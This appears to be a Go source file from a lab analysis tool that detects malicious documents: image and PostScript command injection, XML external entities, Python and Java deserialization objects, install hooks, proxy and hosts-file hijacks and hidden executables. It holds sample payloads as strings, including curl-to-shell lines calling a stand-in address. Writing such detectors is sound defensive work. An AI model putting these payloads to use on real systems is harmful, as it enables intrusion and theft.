// Documents that make the program which reads them run a command, or hand over a file.

package content

import (
	"bytes"
	"net/netip"
	"slices"

	"ftplab/lab/analysis/internal/pattern"
)

const (
	atReaders     = "CWE-502 (deserialization of untrusted data)"
	commandsFetch = `(curl|wget|bash|\bsh\b|nc |python|perl|powershell|cmd\b)`
)

// traps are such documents that are texts.
var traps = []plant{
	{what: "a picture that runs a command in ImageMagick", kind: Malicious, fetched: true, source: "CVE-2016-3714",
		example: "push graphic-context\nfill 'url(https://www.example/x.jpg\"|curl www.example \")'\npop graphic-context\n",
		parts:   []part{marked("push graphic-context", "<svg", "<image"), like(`\burl\([^)\n]{0,200}["'] *[|;&`+"`"+`]|xlink:href="[^"\n]{0,200}&quot;[|;&]`, "url(", "xlink:href")}},
	{what: "PostScript that runs a command", kind: Malicious, fetched: true, source: "CVE-2018-16509 (Ghostscript)",
		example: "%!PS\nmark /OutputFile (%pipe%curl www.example|sh) currentdevice putdeviceprops\n",
		parts:   []part{like(`%pipe%[^)\n]{0,200}`+commandsFetch, "%pipe%")}},
	{what: "XML that asks its reader for a file of the system", kind: Malicious, fetched: true, source: "CWE-611 (XML external entities)",
		example: `<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>`,
		parts:   []part{like(`<!entity\b[^>]{0,80}\bsystem\s+["'](file:/*(etc/(passwd|g?shadow|hosts|hostname|issue|fstab|ssh/)|proc/|root/|home/|dev/|[a-z]:/*(windows|winnt|boot\.ini|inetpub))|(php|expect|gopher|phar|data):)`, "<!entity")}},
	{what: "a Python object that runs a command when a program reads it", kind: Malicious, fetched: true, source: atReaders,
		example: "cposix\nsystem\n(S'id'\ntR.",
		parts:   []part{like(`(^|[(\x02-\x05])c(posix|nt|os|subprocess|commands|builtins|__builtin__)\n(system|popen|exec[lv]?p?e?|eval|call|check_output|run|getoutput)\n`, "\nsystem\n", "\npopen\n", "\nexec", "\neval\n", "\ncall\n", "\ncheck_output\n", "\nrun\n", "\ngetoutput\n")}},
	{what: "a package that runs what it fetches from a host without a name when somebody installs it", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1195.001 (compromise of software dependencies)",
		example: `{"scripts":{"preinstall":"curl -s http://203.0.113.9/p.sh | sh"}}`,
		parts:   []part{like(`"(pre|post)?install" *: *"[^"\n]{0,200}\b(curl|wget)\b[^"\n]{0,200}\| *(ba)?sh\b`, "install"), {[]string{"curl", "wget"}, fetchesFromAddress}}},
	{what: "settings that lead to the pages of a bank by a proxy at an address without a name", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1557 (adversary in the middle) and T1090 (proxy)",
		example: `function FindProxyForURL(u,h){if(shExpMatch(h,"*.bank.example"))return "PROXY 203.0.113.9:8080";return "DIRECT";}`,
		parts: []part{marked("findproxyforurl"), like(`(shexpmatch|dnsdomainis|localhostordomainis|indexof)\b[^;{}\n]{0,80}["'][^"'\n]*`+banks, "shexpmatch", "dnsdomainis", "localhostordomainis", "indexof"),
			{[]string{"proxy ", "socks"}, func(t *passage) bool { return namesPublic(t, proxyAddress) }}}},
	{what: "a list of hosts that leads the visitors of a bank to another address, and holds up updates", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1565.001 (stored data manipulation) and T1562.001 (disable tools)",
		example: "203.0.113.9 www.bank.example\n0.0.0.0 update.microsoft.com\n",
		parts: []part{{[]string{"bank", "paypal", "sparkasse", "pay."}, func(t *passage) bool { return namesPublic(t, bankHost) }},
			like(`(?m)^[ \t]*(0\.0\.0\.0|127\.\d+\.\d+\.\d+)[ \t]+\S*(update\S*\.microsoft|windowsupdate|symantec|kaspersky|avast|mcafee|bitdefender|eset|avira|sophos|malwarebytes)`, "0.0.0.0", "127.")}},
	{what: "a page that runs what it fetches from a host without a name", kind: Malicious, source: "MITRE ATT&CK, T1505.003 (web shell)",
		example: `<?php @include("http://203.0.113.9/a.txt"); ?>`,
		parts:   []part{marked("<?"), {[]string{"include", "require"}, func(t *passage) bool { return namesPublic(t, included) }}}},
}

const banks = `(bank|paypal|sparkasse|volksbank|visa|mastercard|coinbase|binance)`

// Patterns whose first group is an address.
var (
	proxyAddress = pattern.New(`["'](?:proxy|https?|socks[45]?) +((?:\d{1,3}\.){3}\d{1,3}):\d`)
	bankHost     = pattern.New(`(?m)^[ \t]*((?:\d{1,3}\.){3}\d{1,3})[ \t]+\S*` + `(?:bank|paypal|sparkasse)`)
	included     = pattern.New(`\b(?:include|require)(?:_once)?[\s(]*["'](?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b`)
)

// namesPublic reports whether a text has a public address where a pattern has its first group.
func namesPublic(t *passage, p *pattern.Pattern) bool {
	return t.matches(p) && slices.ContainsFunc(p.FindAllSubmatch(t.text, -1), func(m [][]byte) bool {
		a, err := netip.ParseAddr(string(m[1]))
		return err == nil && !a.IsPrivate() && !a.IsLoopback() && !a.IsUnspecified()
	})
}

// Objects of Java as they are stored, and the classes that run commands when a program reads them.
var (
	javaObject = []byte("\xac\xed\x00\x05")
	gadgets    = [][]byte{[]byte("functors.InvokerTransformer"), []byte("functors.ChainedTransformer"), []byte("trax.TemplatesImpl"), []byte("runtime.ConvertedClosure"),
		[]byte("bsh.XThis"), []byte("MethodInvokeTypeProvider"), []byte("rowset.JdbcRowSetImpl")}
	// pickled matches such objects of Python in a newer form, behind the number of the form.
	pickled = pattern.New(`^[\s\S]{0,20}(c(posix|nt|os|subprocess|builtins|__builtin__)\n(system|popen|exec|eval)\n|[\x00-\x1f](posix|nt|os|subprocess|builtins)..?.(system|popen|Popen|exec|eval|check_output)..?)`)
)

// trap reports whether data is an object that runs a command when a program reads it.
func trap(data []byte) (c Content, ok bool) {
	c = Content{Kind: Malicious, Fetched: true}
	switch {
	case bytes.HasPrefix(data, javaObject) && slices.ContainsFunc(gadgets, func(g []byte) bool { return bytes.Contains(data, g) }):
		c.What = "a Java object that runs a command when a program reads it (" + atReaders + ")"
	case len(data) > 2 && data[0] == 0x80 && data[1] <= 5 && pickled.Match(data[2:]):
		c.What = "a Python object that runs a command when a program reads it (" + atReaders + ")"
	}
	return c, c.What != ""
}

// dosText is in the first bytes of programs of Windows, behind their head.
const dosText = "his program cannot be run in DOS mode"

// masked reports whether data is a program of Windows of which each byte was changed by the same exclusive or.
func masked(data []byte) bool {
	const far = 128 // bytes to the text
	if len(data) < far || data[0]^'M' != data[1]^'Z' || data[0] == 'M' {
		return false
	}
	key, plain := data[0]^'M', make([]byte, far+len(dosText))
	for i := range plain[:copy(plain, data)] {
		plain[i] ^= key
	}
	return bytes.Contains(plain, []byte(dosText))
}

// behindPicture is how an archive of zip begins behind the end of a JPEG picture.
var behindPicture = []byte("\xff\xd9PK\x03\x04")

// behind reports whether an archive begins behind a picture in the next part of a file.
func (f *File) behind(data []byte) bool {
	if !f.picture {
		return false
	}
	seam := append(f.tail, data[:min(len(data), len(behindPicture))]...)
	found := bytes.Contains(seam, behindPicture) || bytes.Contains(data, behindPicture)
	if len(data) < len(behindPicture) {
		data = seam
	}
	f.tail = append(f.tail[:0], data[max(0, len(data)-len(behindPicture)+1):]...)
	return found
}
